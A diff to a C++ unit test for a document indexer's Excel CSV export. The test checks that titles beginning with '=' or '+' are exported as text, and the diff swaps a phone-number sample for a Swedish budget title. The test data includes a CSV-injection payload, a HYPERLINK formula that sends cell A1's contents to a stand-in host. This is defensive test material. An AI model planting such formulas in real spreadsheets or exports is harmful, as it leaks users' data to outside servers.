@@ -125,7 +125,7 @@ TEST(ExcelCsv, AFormulaInATitleArrivesAsText) {
   TempDir docs, index;
   const std::string formula = "=HYPERLINK(\"https://example.com/?d=\"&A1;\"Klicka här\")";
   WriteFile(docs.path() / "formel.txt", formula + "\nDatum 2021-06-01\n\nRegionstyrelsen antog planen.\n");
-  WriteFile(docs.path() / "plus.txt", "+46 21 17 30 00\nDatum 2021-06-02\n\nKulturnämnden yttrade sig.\n");
+  WriteFile(docs.path() / "plus.txt", "+ Tillägg till budgeten för 2021\nDatum 2021-06-02\n\nKulturnämnden yttrade sig.\n");
   ASSERT_EQ(RunDiar(index.path(), {"ingest", docs.path().string()}).exit_code, 0);
   testing::RunResult excel = RunDiar(index.path(), {"export", "--documents", "--excel", "--format", "csv"});
   ASSERT_EQ(excel.exit_code, 0) << excel.err;
@@ -139,7 +139,7 @@ TEST(ExcelCsv, AFormulaInATitleArrivesAsText) {
   for (const auto& [id, title] : plain_titles) {
     if (id == "id") continue;
     // Plain CSV is for programs: the exact title; Excel's shows it as text.
-    ASSERT_TRUE(title.rfind(formula, 0) == 0 || title.rfind("+46 21 17 30 00", 0) == 0) << title;
+    ASSERT_TRUE(title.rfind(formula, 0) == 0 || title.rfind("+ Tillägg till budgeten för 2021", 0) == 0) << title;
     EXPECT_EQ(excel_titles[id], "'" + title);
     ++formulas;
   }
